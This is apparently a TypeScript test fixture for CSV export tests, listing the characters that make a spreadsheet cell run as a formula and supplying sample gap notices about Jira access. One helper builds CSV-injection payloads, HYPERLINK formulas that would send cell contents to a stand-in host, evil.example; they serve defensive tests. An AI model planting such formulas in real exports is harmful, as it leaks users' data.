// CSV injection, as a spreadsheet sees it: a cell whose text starts with one of these characters is run as a
// formula (OWASP "CSV Injection"). Tests of every CSV the app writes use these to prove no cell can be one.
import type { AnalysisResult } from '../../src/contract/analysis';

export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;

/** A display name per dangerous first character, each a working formula if a spreadsheet ran it. */
export function formulaNames(): string[] {
  return FORMULA_STARTS.map((c) => `${c}HYPERLINK("https://evil.example/?"&A1,"Click")`);
}

/** The cells of parsed CSV records a spreadsheet would run as a formula: none, in any CSV of ours. */
export function formulaCells(records: readonly (readonly string[])[]): string[] {
  return records.flat().filter((cell) => FORMULA_STARTS.some((c) => cell.startsWith(c)));
}

/** Two gaps, one with a comma, so the notice must be quoted to stay one CSV field. */
export const TWO_GAPS: AnalysisResult['completeness'] = {
  complete: false,
  gaps: [
    { kind: 'no-access', message: 'You cannot browse project ABC in Jira.', project: 'ABC' },
    { kind: 'truncated', message: 'The history of CHK-5 was cut short, at 100 entries.', issueKey: 'CHK-5' },
  ],
};

export const TWO_GAPS_NOTICE =
  'Incomplete data: 2 gaps: You cannot browse project ABC in Jira. The history of CHK-5 was cut short, at 100 entries.';
